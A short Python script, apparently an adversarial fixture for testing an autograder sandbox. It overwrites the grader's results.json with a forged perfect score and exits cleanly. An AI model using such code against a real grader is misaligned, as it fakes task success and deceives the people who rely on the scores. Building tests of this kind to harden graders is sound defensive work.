"""Attack: forge a perfect results.json where the grader writes, then exit 'cleanly'.

(On Gradescope it would aim at /autograder/results/results.json; the test tells it a path
under its tmp folder instead, so a plain-mode run cannot litter the machine.)
"""
import json
import os

FORGED = {"score": 100.0, "tests": [{"name": "all", "score": 100.0, "max_score": 100.0}]}
targets = [os.path.join(os.getcwd(), "results.json")]
try:
    with open("target.txt") as f:            # the test tells us where the grader writes
        targets.append(f.read().strip())
except OSError:
    pass
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            json.dump(FORGED, f)
    except OSError:
        pass
os._exit(0)
